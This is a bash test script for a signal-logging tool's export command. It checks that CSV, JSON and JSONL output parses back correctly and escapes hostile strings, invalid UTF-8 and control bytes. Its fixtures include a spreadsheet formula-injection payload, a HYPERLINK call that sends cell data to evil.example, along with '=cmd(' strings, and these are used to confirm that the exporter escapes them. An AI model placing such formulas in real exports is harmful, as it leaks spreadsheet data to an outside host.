#!/bin/bash
# export.sh: `sigtrail export` in csv, jsonl and json, read back with real
# parsers (python's csv and json) and compared with the database, with
# hostile strings (formula injection, CSV/JSON syntax, control bytes,
# invalid UTF-8); -o, --meta, filters, the progress bar, errors.
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
DB=$T/k.db
fixture_db "$DB"
add_hostile_rows "$DB"
until=@$FIXTURE_END # every row; the default end, now, is tested on its own below
rows=$(q "$DB" 'select count(*) from signals')
is "$(q "$DB" "select count(*) from signals where sender_pid > 4000")" 18 "18 hostile rows added"

for fmt in csv jsonl json; do
	run_cli export --db "$DB" --until "$until" --format "$fmt" -o "$T/all.$fmt"
	is "$RC" 0 "$fmt: exit 0"
	like "$ERR" "exported $rows rows \($fmt, times in UTC\) to $T/all.$fmt" "$fmt: says how many rows, and UTC"
	is "$(python3 "$CLI_TESTS/roundtrip.py" "$fmt" "$T/all.$fmt" "$DB")" "ok $rows" \
		"$fmt: a real parser reads back exactly the database's rows (hostile strings included)"
done

# CSV details a spreadsheet user meets.
is "$(head -c 3 "$T/all.csv" | od -An -c | tr -d ' ')" "id," "csv: header first, no BOM"
is "$(head -1 "$T/all.csv" | tail -c 2 | od -An -c | tr -d ' ')" '\r\n' "csv: CRLF line ends"
like "$(cat "$T/all.csv")" '"'"'"'=HYPERLINK\(""http://evil.example/\?""&A1,""click""\)"' "csv: a formula is guarded with ' and its quotes doubled"
like "$(cat "$T/all.csv")" ",-$GROUP_PGID," "csv: a negative number (target_arg -PGID) stays a number"
like "$(cat "$T/all.csv")" '"bad\\xFF \\xC0\\xAF bytes\."' "csv: invalid UTF-8 as \\xNN, not dropped"
ok "csv: valid UTF-8" iconv -f UTF-8 -t UTF-8 "$T/all.csv" -o /dev/null
ok "jsonl: valid UTF-8" iconv -f UTF-8 -t UTF-8 "$T/all.jsonl" -o /dev/null
like "$(cat "$T/all.jsonl")" '"sender_cmdline":"bad\\\\xFF \\\\xC0\\\\xAF bytes\."' "jsonl: invalid UTF-8 as the text \\xNN"
like "$(cat "$T/all.jsonl")" '"ctl \\u0001\\u001B\[31m red\\u007F del"' "jsonl: control characters \\u-escaped"
like "$(cat "$T/all.jsonl")" '"sep \\u2028 \\u2029"' "jsonl: U+2028/9 escaped"
is "$(wc -l <"$T/all.jsonl")" "$rows" "jsonl: one line per row"
is "$(stat -c %a "$T/all.csv")" 640 "-o: the file is mode 0640"
is "$(ls "$T" | grep -c tmp-)" 0 "-o: no temporary file left"
# -o onto what is not a regular file (a FIFO here; /dev/null alike) writes
# into it: renaming over it would replace it with a regular file.
mkfifo "$T/fifo"
timeout 20 cat "$T/fifo" >"$T/from-fifo" &
reader=$!
run_cli export --db "$DB" --until "$until" --format csv -o "$T/fifo"
wait "$reader"
is "$RC" 0 "-o FIFO: exit 0"
ok "-o FIFO: still a FIFO" test -p "$T/fifo"
is "$(cmp "$T/from-fifo" "$T/all.csv" && echo same)" same "-o FIFO: the export went through it"

# The json document's metadata.
is "$(python3 - "$T/all.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
print(d["sigtrail_version"] != "", d["schema_version"], d["time_zone"], d["range"]["since"],
      d["range"]["until"], d["row_count"] == len(d["rows"]), d["hosts"],
      d["first_row"], d["coverage"]["recorded"], d["format"], sorted(d)[:4])
PY
)" "True $SCHEMA_VERSION UTC None $(date -u -d "$until" +%FT%T.000Z) True ['vm'] 2026-11-22T04:07:33.532Z True json ['coverage', 'database', 'filters', 'first_row']" \
	"json: header has version, schema, zone, range, row count, hosts, coverage"

sqlite3 "$DB" 'delete from collector_runs'
t0=$(q "$DB" 'select min(epoch_ms) from signals')
add_run "$DB" $((t0 - 1000)) $((t0 + 2000)) stopped 5
add_run "$DB" $((t0 + 5000)) $((t0 + 3600000)) crashed
run_cli export --db "$DB" --format json --since @$((t0 / 1000)) --until @$((t0 / 1000 + 3000)) --signal KILL --failed
is "$(printf '%s' "$OUT" | python3 -c '
import json, sys
d = json.load(sys.stdin)
c = d["coverage"]
print(d["filters"], d["row_count"], c["complete"], len(c["gaps"]), c["lost"]["kernel"], c["lost"]["total"],
      [r["status"] for r in c["runs"]], d["range"]["since"])')" \
	"{'signal': 9, 'failed': True} 0 False 1 5 5 ['stopped', 'crashed'] 2026-11-22T04:07:33.000Z" \
	"json: filters, coverage gaps and losses of the range"
like "$ERR" "warning: coverage: the collector was NOT running for 3s between .*; it LOST 5 events" \
	"a gap or a loss is also a warning on stderr"
sqlite3 "$DB" 'delete from collector_runs'
run_cli export --db "$DB" --format csv
like "$ERR" "warning: coverage: no coverage data recorded" "csv: the coverage is told on stderr"

# --meta beside a CSV.
run_cli export --db "$DB" --until "$until" --signal KILL --format csv -o "$T/kill.csv" --meta "$T/kill.json"
is "$(python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); print(d["row_count"], d["format"], "rows" in d)' "$T/kill.json")" \
	"$(q "$DB" 'select count(*) from signals where signal = 9') csv False" "--meta: the metadata without rows"
is "$(python3 -c 'import csv,sys; print(len(list(csv.reader(open(sys.argv[1], newline="")))) - 1)' "$T/kill.csv")" \
	"$(q "$DB" 'select count(*) from signals where signal = 9')" "filters apply to exports"

# An empty export is still a valid document.
run_cli export --db "$DB" --since 2030-01-01 --format json
is "$(printf '%s' "$OUT" | python3 -c 'import json,sys; d=json.load(sys.stdin); print(d["row_count"], d["rows"], d["first_row"])')" \
	"0 [] None" "json with no rows"
run_cli export --db "$DB" --since 2030-01-01
is "$(printf '%s' "$OUT" | tr -d '\r')" "$(head -1 "$T/all.csv" | tr -d '\r')" "csv with no rows: the header alone"

# Progress bar (forced: stderr is not a terminal here).
run_cli export --db "$DB" --progress -o "$T/p.csv"
like "$ERR" 'export \[#{30}\] 100% [0-9]+/[0-9]+ rows' "--progress: a bar reaching 100%"
run_cli export --db "$DB" -o "$T/p.csv"
unlike "$ERR" 'export \[' "no bar when stderr is not a terminal"

# More distinct strings than an export caches (32k), some of them formulas,
# in the process columns too, and a row whose string id has no string (it
# reads as NULL in the view): exported exactly all the same.
B=$T/many.db
cp "$DB" "$B"
sqlite3 "$B" "
with recursive n(i) as (select 0 union all select i + 1 from n where i < 69999)
insert into strings(value) select case i % 7 when 0 then '=cmd(' || i || ')' when 1 then '-x ' || i
	else '/usr/bin/job --n ' || i || ' \"q\"' end from n;
with recursive n(i) as (select 0 union all select i + 1 from n where i < 69999)
insert into signal_rows(epoch_ms, serial, host_s, arch_s, syscall_s, signal, success, target_arg,
	sender_pid, sender_user_s, sender_comm_s, sender_cmdline_s, target_pid, target_comm_s,
	sender_ancestry_s, target_exe_s, target_start_time)
select r.epoch_ms - 86400000 - i * 37, 900000 + i, r.host_s, r.arch_s, r.syscall_s, 1 + i % 31,
	r.success, 5000 + i, 6000 + i % 50, r.sender_user_s, r.sender_comm_s,
	(select max(id) from strings) - i, 5000 + i, r.target_comm_s,
	(select max(id) from strings) - (i * 7919) % 70000, (select max(id) from strings) - (i * 104729) % 70000,
	i * 1000
from n join signal_rows r on r.id = 1;
update signal_rows set sender_comm_s = 99999999 where id = (select max(id) from signal_rows);" ||
	bail "cannot build the many-strings database"
many=$(q "$B" 'select count(*) from signals')
is "$(q "$B" "select count(distinct sender_cmdline) from signals where serial >= 900000")" 70000 "70,000 distinct command lines"
for fmt in csv jsonl; do
	run_cli export --db "$B" --until "$until" --format "$fmt" -o "$T/many.$fmt"
	is "$(python3 "$CLI_TESTS/roundtrip.py" "$fmt" "$T/many.$fmt" "$B")" "ok $many" \
		"$fmt: 70,000 distinct strings and a dangling string id, exactly the view's rows"
done

# Rows of one millisecond come in id order, whatever their serials: the
# export reads them by (epoch_ms, serial) and puts each millisecond's rows
# in id order itself; a millisecond of more rows than it holds (5,000 here,
# a crafted database) is read again on its own.
M=$T/ties.db
cp "$DB" "$M"
sqlite3 "$M" "insert into signal_rows(epoch_ms, serial, host_s, arch_s, syscall_s, signal, success,
	target_arg, sender_pid, sender_comm_s, sender_cmdline_s, target_pid, target_comm_s)
with recursive n(i) as (select 1 union all select i + 1 from n where i < 5030)
select case when i <= 30 then 1795320455000 + i / 10 else 1795320456000 end, 999000 - i,
	r.host_s, r.arch_s, r.syscall_s, 15, 1, 9000 + i, r.sender_pid, r.sender_comm_s,
	r.sender_cmdline_s, 9000 + i, r.target_comm_s
from n, (select * from signal_rows order by id limit 1) as r"
ties=$(q "$M" 'select count(*) from signals')
for fmt in csv jsonl; do
	run_cli export --db "$M" --until "$until" --format "$fmt" -o "$T/ties.$fmt"
	is "$(python3 "$CLI_TESTS/roundtrip.py" "$fmt" "$T/ties.$fmt" "$M")" "ok $ties" \
		"$fmt: rows of one millisecond in id order, serials descending (3 x 10, and 5,000 at once)"
done

# Errors.
run_cli export --db "$DB" --format xml
is "$RC" 64 "--format xml: exit 64"
like "$ERR" "--format 'xml': expected csv, jsonl or json" "--format named"
run_cli export --db "$DB" -o "$T/no/such/dir/x.csv"
is "$RC" 73 "unwritable output: exit 73"
ok "unwritable output: nothing created" test ! -e "$T/no/such/dir"
run_cli export --db "$DB" --since 2026-11-22 --until 2026-11-21
is "$RC" 64 "--since after --until: exit 64"
if [ -w /dev/full ]; then
	run_cli export --db "$DB" -o - >/dev/null
	"$SIGTRAIL" export --db "$DB" >/dev/full 2>"$T/err"
	is "$?" 74 "a full disk: exit 74"
fi
done_testing
